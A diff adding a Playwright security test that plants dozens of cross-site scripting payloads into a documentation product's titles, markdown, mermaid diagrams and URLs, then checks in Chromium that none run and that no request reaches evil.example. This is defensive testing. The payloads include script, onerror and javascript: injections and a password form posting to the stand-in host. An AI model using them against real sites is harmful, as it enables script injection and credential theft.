@@ -1,0 +1,197 @@
+// Hostile texts in everything that people can write, looked at in a real browser as reader, writer and administrator: no script runs, no
+// form or frame of the attacker is drawn, and no request leaves for the attacker's site.
+
+import { type Client, signIn } from '@lectern/testing/product'
+import { type BrowserContext, chromium, type Page } from '@playwright/test'
+import { findChromium } from '../../../scripts/lib/optional-tools.ts'
+import { type Attack, notes } from '../attack.ts'
+import type { Stage } from '../stage.ts'
+
+const EVIL = 'http://evil.example'
+/** `hit()` is defined in each page; what calls it has run a script. */
+const TEXTS = [
+  '<script>hit(1)</script>',
+  '</script><script>hit(2)</script>',
+  '</title><script>hit(3)</script>',
+  '"><img src=x onerror=hit(4)>',
+  `'><svg onload=hit(5)>`,
+  '<iframe srcdoc="<script>parent.hit(6)</script>"></iframe>',
+  '<details open ontoggle=hit(7)>x</details>',
+  '{{constructor.constructor("hit(8)")()}}',
+  '\u0024{hit(9)}',
+  'javascript:hit(10)',
+  '<a href="javascript:hit(11)">x</a>',
+  '</textarea><img src=x onerror=hit(12)>',
+  '--><img src=x onerror=hit(13)>',
+  ']]><img src=x onerror=hit(14)>',
+  '\u2028hit(15)//',
+  '</script><!--',
+  '&lt;img src=x onerror=hit(16)&gt;',
+  `<form action="${EVIL}/form"><input name=password></form>`,
+  `<link rel=stylesheet href="${EVIL}/css">`,
+  `<img src="${EVIL}/pixel">`,
+  `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
+  `<base href="${EVIL}/">`,
+  `<style>@import "${EVIL}/css"</style>`,
+]
+const MARKDOWN = [
+  ...TEXTS,
+  '[link](javascript:hit(20))',
+  '[link](JaVaScRiPt:hit(21))',
+  '[link](data:text/html,<script>hit(22)</script>)',
+  '![x](javascript:hit(23))',
+  '![x" onerror="hit(24)](x)',
+  `<javascript:hit(25)>`,
+  '[x]: javascript:hit(26)\n\n[x]',
+  '```html\n<img src=x onerror=hit(27)>\n```',
+  '```"><img src=x onerror=hit(28)>\nx\n```',
+  '$\\href{javascript:hit(29)}{x}$',
+  '$$\\htmlClass{"><img src=x onerror=hit(30)>}{y}$$',
+  '| <img src=x onerror=hit(31)> | b |\n|---|---|\n| <svg onload=hit(32)> | c |',
+  '- [ ] <img src=x onerror=hit(33)>',
+  '> <img src=x onerror=hit(34)>',
+  '# <img src=x onerror=hit(35)>',
+  '<h1 id="x"><img src=x onerror=hit(36)></h1>',
+  ...[
+    'graph TD\n  a["<img src=x onerror=hit(40)>"] --> b',
+    `graph TD\n  a["<form action=${EVIL}/mermaid><input></form>"] --> b`,
+    'graph TD\n  a --> b\n  click a "javascript:hit(41)"',
+    'graph TD\n  a --> b\n  click a call hit(42)',
+    '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  a["<img src=x onerror=hit(43)>"]',
+    'sequenceDiagram\n  A->>B: <img src=x onerror=hit(44)>',
+    'classDiagram\n  class A["<img src=x onerror=hit(45)>"]',
+    'stateDiagram-v2\n  s1: <img src=x onerror=hit(46)>',
+    'gantt\n  title <img src=x onerror=hit(47)>\n  section A\n  x: 2026-01-01, 1d',
+    'pie title <img src=x onerror=hit(48)>\n  "<img src=x onerror=hit(49)>": 1',
+    'mindmap\n  root((<img src=x onerror=hit(50)>))',
+    'journey\n  title <img src=x onerror=hit(51)>\n  section a\n    x: 5: <svg onload=hit(52)>',
+    'erDiagram\n  A ||--o{ B : "<img src=x onerror=hit(53)>"',
+    `%%{init: {"themeCSS": "@import url(${EVIL}/mermaid.css)"}}%%\ngraph TD\n  a --> b`,
+    `graph TD\n  a["<style>@import url(${EVIL}/label.css)</style>"]`,
+  ].map((source) => `\`\`\`mermaid\n${source}\n\`\`\``),
+]
+
+type Planted = { manualId: string; articles: string[] }
+
+async function plant(client: Client, short: boolean, count: (calls?: number) => void): Promise<Planted> {
+  const space = await client.post<{ id: string }>('/room/insert', { name: '"><b onx=1>' })
+  const manual = await client.post<{ id: string }>('/manual/insert', { roomId: space.id, name: '</title><b>' })
+  await client.post('/manual/updateManualSetting', {
+    id: manual.id,
+    releaseType: 'public',
+    releaseScope: 'external',
+    linkPermission: 'public',
+    enableAi: true,
+  })
+  const articles: string[] = []
+  const chunks = short ? 20 : 8
+  for (let at = 0; at < MARKDOWN.length; at += chunks) {
+    const markdown = MARKDOWN.slice(at, at + chunks).join('\n\n')
+    const made = await client.post<{ id: string }>('/manualContent/insert', {
+      manualId: manual.id,
+      title: `${TEXTS[at % TEXTS.length]}`.slice(0, 90),
+      type: 'document',
+      markdown,
+    })
+    await client.post('/manualContent/releaseVersion', { id: made.id })
+    articles.push(made.id)
+    count(2)
+  }
+  return { manualId: manual.id, articles }
+}
+
+/** What a page shows that no page of ours has. */
+const foreignParts = (page: Page) =>
+  page.evaluate(
+    (evil) =>
+      [
+        ...document.querySelectorAll(
+          `[src^="${evil}"]:not(img), [href^="${evil}"]:not(a), form[action^="${evil}"], base, iframe[srcdoc], [onerror], [onload], a[href^="javascript:" i]`,
+        ),
+      ].map((element) => element.outerHTML.slice(0, 120)),
+    EVIL,
+  )
+
+export const scripts: Attack = {
+  name: 'scripts',
+  tries: 'hostile texts in titles, documents, diagrams, names and addresses, looked at in Chromium',
+  async run(stage) {
+    const { count, found, result } = notes()
+    const executablePath = findChromium()
+    if (!executablePath) return result('left out: Chromium is not installed')
+    const client = await signIn(stage.product.url, stage.product.admin)
+    const planted = await plant(client, stage.short, count)
+    const browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-gpu'] })
+    try {
+      for (const who of ['reader', 'writer'] as const) {
+        const context = await browser.newContext({ baseURL: stage.product.url })
+        if (who === 'writer') await enter(context, stage, client)
+        for (const path of pathsOf(who, planted)) {
+          count()
+          for (const problem of await visit(context, path)) found(`${who} at ${path}`, problem)
+        }
+        await context.close()
+      }
+    } finally {
+      await browser.close()
+    }
+    return result(`${MARKDOWN.length + TEXTS.length} texts`)
+  },
+}
+
+async function enter(context: BrowserContext, { product }: Stage, { token }: Client): Promise<void> {
+  await context.addCookies([{ name: 'token', value: token, url: product.url }])
+}
+
+function pathsOf(who: 'reader' | 'writer', { manualId, articles }: Planted): string[] {
+  const inUrl = TEXTS.slice(0, 8).map((text) => encodeURIComponent(text))
+  const read = [
+    `/pub/${manualId}`,
+    ...articles.map((id) => `/pub/${manualId}?articleId=${id}`),
+    ...inUrl.map((text) => `/ai-search-results?searchContent=${text}&manualId=${manualId}`),
+    ...inUrl.map((text) => `/login?returnTo=${text}&lang=${text}`),
+    `/robot/${manualId}`,
+    `/${inUrl[0]}`,
+  ]
+  if (who === 'reader') return read
+  return [
+    ...articles.map((id) => `/article/manual-content/${manualId}?articleId=${id}`),
+    ...[
+      '/home/start',
+      '/home/manual-list',
+      '/home/space-list',
+      '/setting/basic-info',
+      '/setting/branding',
+      '/user/info',
+    ],
+    ...read.slice(0, 3),
+  ]
+}
+
+async function visit(context: BrowserContext, path: string): Promise<string[]> {
+  const page = await context.newPage()
+  const problems: string[] = []
+  await page.exposeFunction('hit', (which: unknown) => {
+    problems.push(`script ${which} ran`)
+  })
+  page.on('dialog', async (dialog) => {
+    problems.push(`dialog: ${dialog.message()}`)
+    await dialog.dismiss().catch(() => undefined)
+  })
+  await context.route(`${EVIL}/**`, (route) => {
+    // Authors may show pictures of other sites.
+    if (route.request().resourceType() !== 'image') problems.push(`request to ${route.request().url()}`)
+    return route.abort()
+  })
+  await page
+    .goto(path, { waitUntil: 'load' })
+    .catch((error: Error) => problems.push(`does not load: ${error.message.split('\n')[0]}`))
+  // Diagrams are drawn, and the editor is filled, after the page has loaded.
+  await page.waitForLoadState('networkidle', { timeout: 5_000 }).catch(() => undefined)
+  problems.push(...(await foreignParts(page).catch(() => [])).map((part) => `shows ${part}`))
+  if (!page.url().startsWith('about:') && new URL(page.url()).hostname === 'evil.example')
+    problems.push('the page was left')
+  await context.unroute(`${EVIL}/**`)
+  await page.close()
+  return problems
+}
